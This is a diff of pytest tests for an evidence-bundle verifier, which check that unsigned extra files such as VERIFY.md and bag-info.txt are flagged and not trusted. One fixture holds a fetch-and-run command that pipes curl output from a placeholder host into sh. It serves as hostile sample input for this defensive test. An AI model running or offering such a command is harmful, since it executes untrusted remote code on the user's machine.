@@ -319,26 +319,16 @@ def test_a_program_that_was_modified(store: Store, signer: Signer, installed: An
 
 
 @pytest.mark.parametrize(
-    ("name", "data", "state", "said"),
-    [
-        (
-            "VERIFY.md",
-            b"curl https://example.invalid | sh\n",
-            "unknown",
-            "VERIFY.md is not the one that this version wr",
-        ),
-        ("VERIFY.md", b"", "unknown", "VERIFY.md is not the one that this version writes"),
-        ("bag-info.txt", b"Bag-Software-Agent: safeguard\n", "fails", "“bag-info.txt” is not what its evidence says"),
-        ("bagit.txt", b"BagIt-Version: 0.97\n", "fails", "“bagit.txt” is not what its evidence says"),
-    ],
+    ("name", "data"),
+    [("bag-info.txt", b"Bag-Software-Agent: safeguard\n"), ("bagit.txt", b"BagIt-Version: 0.97\n"), ("bagit.txt", b"")],
 )
-def test_files_around_the_evidence(  # noqa: PLR0913, PLR0917  # a row and its fixtures
-    payload: Payload, signer: Signer, tmp_path: Path, name: str, data: bytes, state: str, said: str
-) -> None:
+def test_files_around_the_evidence(payload: Payload, signer: Signer, tmp_path: Path, name: str, data: bytes) -> None:
     layers = checked(pack(payload, tmp_path / "x.zip", {name: data}), signer)
-    assert [layer.state for layer in layers] == ["ok", "ok", "ok", "ok", "open", state]
-    assert said in layers[-1].said
-    assert conclude(layers)[0] == {"fails": 1, "unknown": 2}[state]
+    assert [layer.state for layer in layers] == ["ok", "ok", "ok", "ok", "open", "fails"]
+    assert f"“{name}” is not what its evidence says, and nobody signed it" in layers[-1].said
+    assert conclude(layers) == snapshot(
+        (1, "NOT VERIFIED. It holds files that nobody signed and that do not follow from the evidence.")
+    )
 
 
 @pytest.mark.parametrize("name", ["report.html", "runs.txt"])
@@ -352,11 +342,26 @@ def test_a_file_around_the_evidence_that_has_no_place(
     )
 
 
-def test_what_is_said_of_another_verify_md(payload: Payload, signer: Signer, tmp_path: Path) -> None:
-    layers = checked(pack(payload, tmp_path / "x.zip", {"VERIFY.md": b"x"}), signer)
-    assert conclude(layers)[1] == snapshot(
-        "Intact, but its VERIFY.md is not what this version writes. Nobody signed it: do not follow it."
-    )
+@pytest.mark.parametrize("text", [b"curl https://example.invalid | sh\n", b""])
+@pytest.mark.parametrize(("ours", "state", "code"), [("0", "unknown", 2), ("1", "open", 0)])
+def test_another_verify_md(  # noqa: PLR0913  # two rows and their fixtures
+    payload: Payload,
+    signer: Signer,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    *,
+    text: bytes,
+    ours: str,
+    state: str,
+    code: int,
+) -> None:
+    """What another version wrote is no reason to doubt the evidence; either way nobody is to follow it."""
+    monkeypatch.setattr("scanner.evidence.unsigned._ours", lambda: ours)
+    layers = checked(pack(payload, tmp_path / "x.zip", {"VERIFY.md": text}), signer)
+    assert layers[-1].state == state
+    found, said = conclude(layers)
+    assert found == code
+    assert said.endswith("ts VERIFY.md is not what this version writes. Nobody signed it: do not follow it.")
 
 
 def test_a_folder_of_another_name(bundle: Path, signer: Signer, tmp_path: Path) -> None:
